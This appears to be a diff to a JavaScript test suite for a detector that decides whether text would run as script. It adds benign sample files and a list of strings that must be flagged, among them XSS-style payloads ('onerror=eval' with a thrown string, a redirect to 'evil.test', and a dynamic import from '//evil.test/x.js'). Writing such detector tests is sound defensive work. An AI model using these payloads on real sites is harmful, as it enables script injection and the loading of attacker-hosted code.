@@ -60,6 +60,14 @@ describe("runsAsScript", () => {
       "# Title\n\nText.",
       "<!doctype html><p>Hi</p>",
       "%PDF-1.7\n",
+      // Sample files a card attaches, each a program that compiles and can do nothing.
+      "name: lumen\nversion: 2\nurl: https://help.lumen.example/\n",
+      "- one\n- two\n",
+      '"name","amount"\n"Ada","10.50"\n',
+      "body\n{\n  color: red;\n}\n",
+      "Status: pending\n",
+      "a == b && c <= d || e >= f",
+      '["a=b", "f(x)", "++"]',
       "PK\u0003\u0004binary",
       "",
     ]) {
@@ -68,6 +76,10 @@ describe("runsAsScript", () => {
     expect(runsAsScript(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBe(false);
     expect(isRunnableScript("new\nWorker")).toBe(true);
     expect(isRunnableScript("a,new\nImage")).toBe(true);
+    // Each way a program acts without a call: an assignment (onerror=eval, then a thrown string), a tagged template, ++, delete.
+    for (const text of ["onerror=eval\nthrow'=top.__xss=1'", "location='//evil.test/'", "a.b += 1", "x >>>= 1", "x ||= top", "Function`x```", "a\n++b", "delete top.pagefind", "import('//evil.test/x.js')"]) {
+      expect(isRunnableScript(text), text).toBe(true);
+    }
   });
 });
 
